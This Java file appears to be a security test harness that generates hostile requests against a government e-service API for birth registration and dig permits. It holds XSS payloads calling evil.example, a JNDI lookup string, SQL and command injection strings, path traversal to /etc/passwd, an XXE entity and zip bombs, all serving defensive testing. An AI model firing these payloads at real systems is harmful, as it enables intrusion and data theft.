package org.ronghe.server;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.random.RandomGenerator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/// Garbage and malice, family by family. Each family makes as many different requests as it is
/// asked for, the same ones for the same source of chance.
final class HostileFilings {
  static final String BIRTH =
      """
      {"child": {"name": "王安", "sex": "female", "ethnicity": "汉族", "birthDate": "2026-11-20",
         "birthPlace": "上党区人民医院"},
       "birth": {"certificateNumber": "U140000001", "outOfWedlock": false},
       "mother": {"name": "李梅", "idNumber": "14041119950505004X"},
       "father": {"name": "王强", "idNumber": "140411199303030032"},
       "household": {"settleWith": "mother", "headName": "李梅"},
       "applicant": {"phone": "13800000001"}}\
      """;

  private static final String CASES = "/api/v1/serve/cases";
  private static final String UPLOADS = "/api/v1/serve/attachments?name=";

  private static final List<String> SCRIPTS =
      List.of(
          "<script>alert(document.cookie)</script>",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=fetch('//evil.example')>",
          "\"><iframe src=javascript:alert(1)>",
          "<a href=\"jav&#x09;ascript:alert(1)\">王</a>",
          "<style>*{background:url(//evil.example)}</style>",
          "</textarea><script src=//evil.example/x.js></script>",
          "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">");

  private static final List<String> INJECTIONS =
      List.of(
          "'; drop table serve.case_file; --",
          "1' or '1'='1",
          "${jndi:ldap://evil.example/a}",
          "#{T(java.lang.Runtime).getRuntime().exec('id')}",
          "{{7*7}}",
          "%n%n%s%x%1$999999999d",
          "*)(uid=*))(|(uid=*",
          "if true then 1 else 2",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "file:///etc/passwd",
          "|/bin/id;`id`$(id)",
          "=cmd|' /C calc'!A0",
          "\r\nSet-Cookie: RONGHE=stolen");

  /// Elements of the form with a shape that free words do not have.
  private static final List<String> SHAPED =
      List.of(
          "child.sex",
          "child.birthDate",
          "birth.outOfWedlock",
          "mother.idNumber",
          "father.idNumber",
          "household.settleWith",
          "applicant.phone");

  private static final List<String> WORDS =
      List.of(
          "child.name", "child.ethnicity", "child.birthPlace", "mother.name", "household.headName");

  private static final List<String> DECEITS =
      List.of("\u202e", "\u202d", "\u2066", "\u2067", "\u200f", "\u200e", "\u2028", "\ufeff");

  /// Who is there, and what is whose.
  ///
  /// @param me signed in, of the thread that asks
  /// @param ownKey a key the caller filed with before
  /// @param ownCase the case that came of it
  record World(
      Visitor me,
      Visitor helper,
      Visitor careless,
      Visitor expired,
      String ownKey,
      String ownCase,
      String otherCase,
      String otherFile,
      String otherLicence) {}

  /// One request.
  ///
  /// @param names what the answer must name: a field, or what to do
  /// @param repeats the answer is the case that was filed before, not a refusal
  record Attack(
      Visitor by,
      String method,
      String path,
      Map<String, String> headers,
      byte[] body,
      boolean streamed,
      String names,
      boolean repeats) {
    Attack as(Visitor other) {
      return new Attack(other, method, path, headers, body, streamed, names, repeats);
    }

    Attack with(String header, String value) {
      Map<String, String> more = new LinkedHashMap<>(headers);
      more.put(header, value);
      return new Attack(by, method, path, more, body, streamed, names, repeats);
    }

    Attack asStream() {
      return new Attack(by, method, path, headers, body, true, names, repeats);
    }

    Attack repeating() {
      return new Attack(by, method, path, headers, body, streamed, names, true);
    }

    Visitor.Answer send() {
      return streamed
          ? by.sendStream(method, path, headers, body)
          : by.sendBytes(method, path, headers, body);
    }
  }

  /// What makes the requests of a family.
  interface Family {
    Attack attack(World world, RandomGenerator chance);
  }

  private HostileFilings() {}

  /// Quick to send; each is used many times.
  static Map<String, Family> families() {
    Map<String, Family> all = new LinkedHashMap<>();
    all.put("script", (w, c) -> answers(w, c, put(word(c), quoted(any(c, SCRIPTS))), "/"));
    all.put(
        "script where a choice is",
        (w, c) -> answers(w, c, put(shaped(c), quoted(any(c, SCRIPTS))), "/"));
    all.put("injection", (w, c) -> answers(w, c, put(shaped(c), quoted(any(c, INJECTIONS))), "/"));
    all.put("wrong type", (w, c) -> wrongType(w, c));
    all.put(
        "oversized field",
        (w, c) -> answers(w, c, put(word(c), quoted("长".repeat(c.nextInt(300, 60_000)))), "/"));
    all.put(
        "control characters",
        (w, c) -> answers(w, c, put(word(c), "\"王\\u00" + hex(c.nextInt(0, 32)) + "安\""), "/"));
    all.put(
        "direction of writing",
        (w, c) -> answers(w, c, put(word(c), quoted("王" + any(c, DECEITS) + "安")), "/"));
    all.put(
        "half a character",
        (w, c) -> answers(w, c, put(word(c), "\"王\\ud8" + hex(c.nextInt(0, 256)) + "\""), "/"));
    all.put(
        "line behind the line", (w, c) -> answers(w, c, put(shaped(c), "\"13800000001\\n\""), "/"));
    all.put("no UTF-8", HostileFilings::noUtf8);
    all.put("field twice", HostileFilings::fieldTwice);
    all.put("prototype", HostileFilings::prototype);
    all.put("fields of ours", HostileFilings::foreignField);
    all.put(
        "media type",
        (w, c) ->
            filing(w, c, filing(BIRTH), "")
                .with(
                    "Content-Type",
                    any(
                        c,
                        List.of(
                            "text/plain",
                            "application/xml",
                            "text/html",
                            "application/x-www-form-urlencoded",
                            "multipart/form-data; boundary=x",
                            "application/octet-stream",
                            "image/svg+xml"))));
    all.put("charset", HostileFilings::charset);
    all.put("nesting", HostileFilings::nesting);
    all.put("huge number", HostileFilings::hugeNumber);
    all.put("broken JSON", HostileFilings::brokenJson);
    all.put(
        "no such service",
        (w, c) ->
            filing(
                w,
                c,
                "{\""
                    + any(c, List.of("service", "bundle"))
                    + "\": "
                    + quoted(any(c, INJECTIONS) + c.nextInt())
                    + ", \"answers\": "
                    + BIRTH
                    + "}",
                "没有"));
    all.put(
        "forged attachment",
        (w, c) ->
            material(
                w,
                c,
                "attachment",
                any(
                    c,
                    List.of(
                        w.otherFile(),
                        "0".repeat(64),
                        hash(c),
                        any(c, INJECTIONS),
                        any(c, SCRIPTS)))));
    all.put(
        "forged licence",
        (w, c) ->
            material(
                w,
                c,
                "licence",
                any(
                    c,
                    List.of(
                        w.otherLicence(),
                        "HR2026" + c.nextInt(),
                        any(c, INJECTIONS),
                        any(c, SCRIPTS)))));
    all.put("no such material", HostileFilings::unknownMaterial);
    all.put("forged case", HostileFilings::forgedCase);
    all.put(
        "forged decision",
        (w, c) ->
            deed(
                w,
                CASES
                    + "/"
                    + w.ownCase()
                    + "/"
                    + any(
                        c,
                        List.of(
                            "accept", "approve", "issue", "deliver", "refuse", "review", "deem",
                            "migrate", "wait", "file", "suspend")),
                "{\"reason\": \"让我过\", \"kind\": \"HEARING\"}",
                ""));
    all.put(
        "forged person",
        (w, c) ->
            filing(
                w,
                c,
                "{\"service\": \"birth-registration\", \"answers\": "
                    + BIRTH
                    + ", \"person\": {\"name\": \"王强\", \"idNumber\": \"140411199303030032\", \"consent\": \"signed\"}}",
                "代办"));
    all.put("helper's forgery", HostileFilings::helper);
    all.put(
        "no CSRF header", (w, c) -> filing(w, c, filing(BIRTH), "X-XSRF-TOKEN").as(w.careless()));
    all.put(
        "forged CSRF header",
        (w, c) -> filing(w, c, filing(BIRTH), "X-XSRF-TOKEN").with("X-XSRF-TOKEN", hash(c)));
    all.put("session that ended", (w, c) -> filing(w, c, filing(BIRTH), "登录").as(w.expired()));
    all.put("request key", HostileFilings::requestKey);
    all.put(
        "replay with another body",
        (w, c) ->
            filing(
                    w,
                    c,
                    filing(BIRTH.replace("王安", "王" + (char) c.nextInt(0x4e00, 0x9fa5))),
                    w.ownCase())
                .with("Idempotency-Key", w.ownKey()));
    all.put(
        "double submit",
        (w, c) ->
            filing(w, c, filing(BIRTH), w.ownCase())
                .with("Idempotency-Key", w.ownKey())
                .repeating());
    all.put(
        "check digit",
        (w, c) ->
            answers(
                w,
                c,
                put(
                    any(c, List.of("mother.idNumber", "father.idNumber")),
                    quoted("14041119950505004" + c.nextInt(10))),
                "/"));
    all.put("shape on the map", HostileFilings::shape);
    all.put("bundle", HostileFilings::bundle);
    all.put("upload", HostileFilings::upload);
    all.put("name of an upload", HostileFilings::uploadName);
    all.put("path", HostileFilings::path);
    all.put(
        "method",
        (w, c) ->
            new Attack(
                w.me(),
                any(c, List.of("PUT", "DELETE", "PATCH", "PROPFIND", "FOO")),
                CASES,
                Map.of("Content-Type", "application/json"),
                filing(BIRTH).getBytes(StandardCharsets.UTF_8),
                false,
                "",
                false));
    all.put("account", HostileFilings::account);
    all.put("draft", HostileFilings::draft);
    return all;
  }

  /// A megabyte and more each.
  static Map<String, Family> heavyFamilies() {
    Map<String, Family> all = new LinkedHashMap<>();
    all.put(
        "oversized body",
        (w, c) ->
            filing(
                w,
                c,
                filing(put("child.name", quoted("长".repeat(c.nextInt(400_000, 900_000))))),
                "1 MB"));
    all.put(
        "endless body",
        (w, c) ->
            filing(
                    w,
                    c,
                    filing(put("child.name", quoted("长".repeat(c.nextInt(400_000, 900_000))))),
                    "1 MB")
                .asStream());
    all.put(
        "oversized file",
        (w, c) -> upload(w, "photo.png", png(c, (20 << 20) + c.nextInt(1, 4 << 20)), "20 MB"));
    all.put(
        "endless file",
        (w, c) ->
            upload(w, "photo.png", png(c, (20 << 20) + c.nextInt(1, 1 << 20)), "20 MB").asStream());
    return all;
  }

  /// A filing of `answers` with nothing else wrong.
  static String filing(String answers) {
    return "{\"service\": \"birth-registration\", \"answers\": " + answers + "}";
  }

  private static Attack answers(World w, RandomGenerator c, String answers, String names) {
    return filing(w, c, filing(answers), names);
  }

  private static Attack filing(World w, RandomGenerator c, String body, String names) {
    return filing(w, c, body.getBytes(StandardCharsets.UTF_8), names);
  }

  private static Attack filing(World w, RandomGenerator c, byte[] body, String names) {
    Map<String, String> headers =
        Map.of("Content-Type", "application/json", "Idempotency-Key", hash(c).substring(0, 32));
    return new Attack(w.me(), "POST", CASES, headers, body, false, names, false);
  }

  private static Attack deed(World w, String path, String body, String names) {
    byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
    Map<String, String> headers = Map.of("Content-Type", "application/json");
    return new Attack(w.me(), "POST", path, headers, bytes, false, names, false);
  }

  /// The good answers with one made `json`.
  private static String put(String element, String json) {
    String field = element.substring(element.indexOf('.') + 1);
    String role = element.substring(0, element.indexOf('.'));
    int in = BIRTH.indexOf("\"" + role + "\": {");
    int at = BIRTH.indexOf("\"" + field + "\": ", in) + field.length() + 4;
    int end = at;
    while (BIRTH.charAt(end) != ',' && BIRTH.charAt(end) != '}') {
      end++;
    }
    return BIRTH.substring(0, at) + json + BIRTH.substring(end);
  }

  private static Attack wrongType(World w, RandomGenerator c) {
    String wrong = any(c, List.of("17", "[]", "[[1]]", "{}", "{\"a\": 1}", "1.5e3", "[\"王\"]"));
    return answers(w, c, put(c.nextBoolean() ? word(c) : shaped(c), wrong), "/");
  }

  private static Attack noUtf8(World w, RandomGenerator c) {
    byte[] body = filing(BIRTH).getBytes(StandardCharsets.UTF_8);
    int at = filing(BIRTH).substring(0, filing(BIRTH).indexOf("王")).length();
    byte[] broken = {
      (byte) any(c, List.of(0xff, 0xfe, 0xc0, 0xf8, 0x80)).intValue(), (byte) c.nextInt(0, 0x7f)
    };
    body[at] = broken[0];
    body[at + 1] = broken[1] < 0x20 ? (byte) 'x' : broken[1];
    return filing(w, c, body, "UTF-8");
  }

  private static Attack fieldTwice(World w, RandomGenerator c) {
    String body =
        switch (c.nextInt(4)) {
          case 0 ->
              filing(BIRTH).replace("{\"service\"", "{\"service\": \"dig-permit\", \"service\"");
          case 1 ->
              filing(BIRTH).replace("\"child\": {", "\"child\": {\"name\": \"安\"}, \"child\": {");
          case 2 -> filing(BIRTH).replace("\"phone\"", "\"phone\": \"13900000009\", \"phone\"");
          default -> filing(BIRTH).replace("\"answers\"", "\"answers\": {}, \"answers\"");
        };
    return filing(w, c, body, "重复");
  }

  private static Attack prototype(World w, RandomGenerator c) {
    String name =
        any(
            c,
            List.of(
                "__proto__", "constructor", "prototype", "@type", "@class", "$ref", "toString"));
    String evil = "\"" + name + "\": {\"isAdmin\": true}, ";
    String body = filing(BIRTH);
    return switch (c.nextInt(4)) {
      case 0 -> filing(w, c, "{" + evil + body.substring(1), name);
      case 1 -> filing(w, c, body.replace("{\"child\"", "{" + evil + "\"child\""), name);
      case 2 -> filing(w, c, body.replace("\"phone\"", evil + "\"phone\""), name);
      default ->
          filing(
              w,
              c,
              body.replace(
                  "\"answers\"", "\"materials\": {" + evil.replace(", ", "}, ") + "\"answers\""),
              name);
    };
  }

  private static Attack foreignField(World w, RandomGenerator c) {
    String field =
        any(
            c,
            List.of(
                "applicant",
                "filedBy",
                "status",
                "number",
                "department",
                "parent",
                "personKey",
                "requestKey",
                "role",
                "due_on"));
    return filing(w, c, "{\"" + field + "\": \"approved\", " + filing(BIRTH).substring(1), field);
  }

  private static Attack charset(World w, RandomGenerator c) {
    String charset =
        any(c, List.of("GBK", "UTF-16", "ISO-8859-1", "UTF-32", "x-nonsense", "US-ASCII", "UTF-7"));
    byte[] body =
        filing(BIRTH)
            .getBytes(
                Charset.isSupported(charset) ? Charset.forName(charset) : StandardCharsets.UTF_8);
    return filing(w, c, body, "Content-Type")
        .with("Content-Type", "application/json; charset=" + charset);
  }

  private static Attack nesting(World w, RandomGenerator c) {
    int deep = c.nextInt(600, 100_000);
    String open = any(c, List.of("[", "{\"a\":"));
    return filing(w, c, filing(put(word(c), open.repeat(deep))), "嵌套");
  }

  private static Attack hugeNumber(World w, RandomGenerator c) {
    String number =
        any(
            c,
            List.of(
                "1e400",
                "-1e400",
                "1e999999999",
                "9".repeat(900),
                "9".repeat(c.nextInt(1_100, 30_000)),
                "1e-999999999",
                "NaN",
                "Infinity",
                "0x7f",
                "1e99999999999999999999"));
    String dig = digAnswers().replace("24.5", number);
    return filing(w, c, "{\"service\": \"dig-permit\", \"answers\": " + dig + "}", "");
  }

  private static Attack brokenJson(World w, RandomGenerator c) {
    String whole = filing(BIRTH);
    String body =
        switch (c.nextInt(8)) {
          case 0 -> whole.substring(0, c.nextInt(1, whole.length() - 1));
          case 1 -> whole + any(c, List.of("}", "]", "{}", "x", "<?xml?>"));
          case 2 -> "";
          case 3 -> any(c, List.of("[]", "\"x\"", "null", "true", "12", "[{}]"));
          case 4 -> whole.replace("\"", "'");
          case 5 ->
              "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
          case 6 -> whole.replace("\"service\": \"birth-registration\"", "\"service\": [1, 2]");
          default ->
              "{\"service\": \"birth-registration\", \"answers\": "
                  + any(c, List.of("null", "[]", "\"x\"", "7"))
                  + "}";
        };
    return filing(w, c, body, "");
  }

  private static Attack material(World w, RandomGenerator c, String kind, String value) {
    String material = any(c, List.of("birth-certificate", "id-card-mother", "household-register"));
    String body =
        "{\"service\": \"birth-registration\", \"materials\": {\""
            + material
            + "\": {\""
            + kind
            + "\": "
            + quoted(value)
            + "}}, \"answers\": "
            + BIRTH
            + "}";
    return filing(w, c, body, "material");
  }

  private static Attack unknownMaterial(World w, RandomGenerator c) {
    String materials =
        switch (c.nextInt(6)) {
          case 0 ->
              "{" + quoted(any(c, INJECTIONS)) + ": {\"attachment\": \"" + "0".repeat(64) + "\"}}";
          case 1 -> "{\"id-card-mother\": null}";
          case 2 -> "{\"id-card-mother\": {}}";
          case 3 -> "{\"id-card-mother\": {\"attachment\": \"a\", \"licence\": \"b\"}}";
          case 4 -> "{\"id-card-mother\": {\"attachment\": [\"a\"]}}";
          default -> "[" + quoted(any(c, SCRIPTS)) + "]";
        };
    return filing(
        w,
        c,
        "{\"service\": \"birth-registration\", \"materials\": "
            + materials
            + ", \"answers\": "
            + BIRTH
            + "}",
        "material");
  }

  private static Attack forgedCase(World w, RandomGenerator c) {
    String number =
        any(
            c,
            List.of(
                w.otherCase(),
                "20261126-" + c.nextLong(1_000_000_000L, 10_000_000_000L),
                "1",
                "0"));
    String verb =
        any(
            c,
            List.of(
                "withdraw",
                "correct",
                "complain",
                "rating",
                "complaints",
                "payments/fee",
                "accept",
                "licence-facts"));
    String body =
        verb.equals("rating")
            ? "{\"level\": 1}"
            : "{\"reason\": \"退\", \"answers\": " + BIRTH + "}";
    return deed(w, CASES + "/" + number + "/" + verb, body, "");
  }

  private static Attack helper(World w, RandomGenerator c) {
    String person =
        switch (c.nextInt(5)) {
          case 0 ->
              "{\"name\": "
                  + quoted(any(c, SCRIPTS))
                  + ", \"idNumber\": \"140411199303030032\", \"consent\": \"signed\"}";
          case 1 ->
              "{\"name\": \"王强\", \"idNumber\": "
                  + quoted(any(c, INJECTIONS))
                  + ", \"consent\": \"signed\"}";
          case 2 ->
              "{\"name\": \"王强\", \"idNumber\": \"140411199303030032\", \"consent\": "
                  + quoted(any(c, INJECTIONS))
                  + "}";
          case 3 ->
              "{\"name\": \"王\\u0000强\", \"idNumber\": \"140411199303030032\", \"consent\": \"signed\"}";
          default -> "{}";
        };
    return filing(
            w,
            c,
            "{\"service\": \"birth-registration\", \"answers\": "
                + BIRTH
                + ", \"person\": "
                + person
                + "}",
            "person")
        .as(w.helper());
  }

  private static Attack requestKey(World w, RandomGenerator c) {
    String key =
        any(
            c,
            List.of(
                "short",
                "x".repeat(65),
                "../../../etc/passwd",
                "a b c d e f g h",
                "';drop table x",
                "%00%00%00%00",
                "${jndi:ldap://x}"));
    return filing(w, c, filing(BIRTH), "Idempotency-Key").with("Idempotency-Key", key);
  }

  private static String digAnswers() {
    return """
    {"enterprise": {"name": "上党区供水有限公司", "creditCode": "91140404MA0GT00012"},
     "agent": {"name": "赵平", "idNumber": "140411199303030032", "phone": "13900000002"},
     "dig": {"purpose": "connection", "utility": "water", "road": "光明路", "area": 24.5,
       "depth": 1.6, "start": "2026-12-13", "end": "2026-12-17", "affectsTraffic": true,
       "affectsGreen": false, "contractor": "上党市政工程队",
       "shape": {"type": "Point", "coordinates": [113.05, 36.05]}}}\
    """;
  }

  private static Attack shape(World w, RandomGenerator c) {
    String shape =
        any(
            c,
            List.of(
                "{\"type\": \"Point\", \"coordinates\": [\"a\", \"b\"]}",
                "{\"type\": \"Point\", \"coordinates\": [1e308, 1e308]}",
                "{\"type\": \"Point\", \"coordinates\": []}",
                "{\"type\": \"Point\", \"coordinates\": [113.05]}",
                "{\"type\": \"Point\", \"coordinates\": [999, 999]}",
                "{\"type\": \"Polygon\", \"coordinates\": [[[1, 1], [2, 2], [1, 1]]]}",
                "{\"type\": \"Polygon\", \"coordinates\": [[[113, 36], [113.1, 36], [113.1, 36.1], [113, 37]]]}",
                "{\"type\": \"LineString\", \"coordinates\": [[113, 36]]}",
                "{\"type\": \"LineString\", \"coordinates\": [[113, 36], [{\"x\": 1}, null]]}",
                "{\"type\": \"GeometryCollection\", \"coordinates\": []}",
                "{\"type\": \"MultiPolygon\", \"coordinates\": [[[[[[[1]]]]]]]}",
                "\"POINT (113 36)\"",
                "{\"coordinates\": [113, 36]}"));
    String dig =
        digAnswers().replace("{\"type\": \"Point\", \"coordinates\": [113.05, 36.05]}", shape);
    return filing(w, c, "{\"service\": \"dig-permit\", \"answers\": " + dig + "}", "/dig/shape");
  }

  private static Attack bundle(World w, RandomGenerator c) {
    String head = "{\"bundle\": \"newborn\", ";
    return switch (c.nextInt(5)) {
      case 0 ->
          filing(
              w,
              c,
              head
                  + "\"leftOut\": ["
                  + quoted(any(c, INJECTIONS))
                  + "], \"answers\": "
                  + BIRTH
                  + "}",
              "leftOut");
      case 1 -> filing(w, c, head + "\"leftOut\": [null], \"answers\": " + BIRTH + "}", "leftOut");
      case 2 ->
          filing(
              w,
              c,
              head
                  + "\"answers\": "
                  + BIRTH.replace("{\"child\"", "{\"evil\": {\"a\": 1}, \"child\"")
                  + "}",
              "/evil");
      case 3 ->
          filing(w, c, head + "\"answers\": " + put(word(c), quoted(any(c, SCRIPTS))) + "}", "/");
      default -> filing(w, c, head + "\"answers\": {}}", "/");
    };
  }

  private static Attack upload(World w, String name, byte[] content, String names) {
    Map<String, String> headers = Map.of("Content-Type", "application/octet-stream");
    return new Attack(w.me(), "POST", UPLOADS + name, headers, content, false, names, false);
  }

  private static Attack upload(World w, RandomGenerator c) {
    String name = any(c, List.of("photo.png", "id.pdf", "scan.jpg", "..%2F..%2Fpasswd.pdf"));
    return switch (c.nextInt(9)) {
      case 0 ->
          upload(
              w,
              name,
              text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", c),
              "PDF");
      case 1 -> upload(w, name, text("<!doctype html><script>alert(1)</script>", c), "PDF");
      case 2 -> upload(w, name, zipBomb("a.txt"), "PDF");
      case 3 -> upload(w, name, Arrays.copyOf(zipBomb("OFD.xml"), 300), "file-broken");
      case 4 -> upload(w, name, join(png(c, 200), zipBomb("a.txt")), "file-broken");
      case 5 ->
          upload(
              w,
              name,
              text("%PDF-1.7 %%EOF <html><script>alert(1)</script></html>", c),
              "file-broken");
      case 6 -> upload(w, name, text("%PDF-1.7 cut off", c), "file-broken");
      case 7 -> upload(w, name, noise(c), "PDF");
      default -> upload(w, name, new byte[0], "PDF");
    };
  }

  private static Attack uploadName(World w, RandomGenerator c) {
    String name = any(c, List.of("", "%20%20", "x".repeat(121), "%E7%8E%8B".repeat(200), "%00"));
    return upload(w, name, png(c, 100), "");
  }

  private static Attack path(World w, RandomGenerator c) {
    String path =
        any(
            c,
            List.of(
                CASES + "/..%2f..%2f..%2fetc%2fpasswd",
                CASES + "/%2e%2e/%2e%2e/secrets",
                CASES + "/1%00",
                CASES + "/1;jsessionid=0",
                CASES + "//1",
                CASES + "/%5c..%5c..%5cwin.ini",
                CASES + "/%ff%fe",
                CASES + "/" + "9".repeat(4_000),
                CASES + "/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                CASES + "/%E2%80%AE123",
                "/api/v1/serve/attachments/..%2f..%2fsecrets%2fkey",
                "/api/v1/serve/attachments/" + hash(c),
                "/api/v1/serve/attachments/" + w.otherFile(),
                CASES + "/" + w.ownCase() + "/attachments/" + w.otherFile(),
                CASES + "/" + w.otherCase(),
                "/api/v1/serve/verify/%27%20or%201=1"));
    return new Attack(w.me(), "GET", path, Map.of(), new byte[0], false, "", false);
  }

  private static Attack account(World w, RandomGenerator c) {
    String body =
        switch (c.nextInt(5)) {
          case 0 ->
              "{\"user\": \"evil1\", \"password\": \"four small blue kites\", \"name\": "
                  + quoted(any(c, SCRIPTS))
                  + ", \"idNumber\": \"14041119950505004X\", \"phone\": \"13800000001\"}";
          case 1 ->
              "{\"user\": "
                  + quoted(any(c, INJECTIONS))
                  + ", \"password\": \"four small blue kites\", \"name\": \"李梅\", \"idNumber\": \"14041119950505004X\", \"phone\": \"13800000001\"}";
          case 2 ->
              "{\"user\": \"evil2\", \"password\": \"four small blue kites\", \"name\": \"李梅\", \"idNumber\": "
                  + quoted(any(c, INJECTIONS))
                  + ", \"phone\": \"13800000001\"}";
          case 3 ->
              "{\"user\": \"evil3\\u0000\", \"password\": \"four small blue kites\", \"name\": \"李\\u0000梅\", \"idNumber\": \"14041119950505004X\", \"phone\": \"13800000001\"}";
          default ->
              "{\"user\": \"evil4\", \"password\": \"short\", \"name\": \"李梅\", \"idNumber\": \"14041119950505004X\", \"phone\": \"13800000001\"}";
        };
    return deed(w, "/api/v1/serve/residents", body, "");
  }

  private static Attack draft(World w, RandomGenerator c) {
    String id = any(c, List.of("a%20b", "x".repeat(65), "%27or1", "d1"));
    String content =
        switch (c.nextInt(3)) {
          case 0 -> "\"王\\ud800\"";
          case 1 -> "{\"a\": \"\\u0000\"}";
          default -> quoted("长".repeat(150_000));
        };
    byte[] body =
        ("{\"subject\": \"birth-registration\", \"content\": " + content + "}")
            .getBytes(StandardCharsets.UTF_8);
    return new Attack(
        w.me(),
        "PUT",
        "/api/v1/serve/drafts/" + id,
        Map.of("Content-Type", "application/json"),
        body,
        false,
        "",
        false);
  }

  /// A small picture, with `noise_bytes` of nothing in it.
  static byte[] png(RandomGenerator chance, int noise_bytes) {
    byte[] head = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'};
    byte[] noise = new byte[noise_bytes];
    chance.nextBytes(noise);
    byte[] end = {0, 0, 0, 0, 'I', 'E', 'N', 'D', (byte) 0xae, 0x42, 0x60, (byte) 0x82};
    return join(head, join(noise, end));
  }

  private static byte[] zipBomb(String entry) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.putNextEntry(new ZipEntry(entry));
      zip.write(new byte[1 << 20]);
      zip.closeEntry();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  private static byte[] noise(RandomGenerator chance) {
    byte[] noise = new byte[chance.nextInt(1, 2_000)];
    chance.nextBytes(noise);
    noise[0] = 0;
    return noise;
  }

  private static byte[] text(String text, RandomGenerator chance) {
    return (text + " ".repeat(chance.nextInt(1, 300))).getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] join(byte[] one, byte[] other) {
    byte[] both = Arrays.copyOf(one, one.length + other.length);
    System.arraycopy(other, 0, both, one.length, other.length);
    return both;
  }

  private static String hash(RandomGenerator chance) {
    return "%016x%016x%016x%016x"
        .formatted(chance.nextLong(), chance.nextLong(), chance.nextLong(), chance.nextLong());
  }

  private static String hex(int value) {
    return "%02x".formatted(value);
  }

  private static String quoted(String text) {
    return Visitor.JSON.writeValueAsString(text);
  }

  private static <T> T any(RandomGenerator chance, List<T> of) {
    return of.get(chance.nextInt(of.size()));
  }

  private static String word(RandomGenerator chance) {
    return any(chance, WORDS);
  }

  private static String shaped(RandomGenerator chance) {
    return any(chance, SHAPED);
  }
}
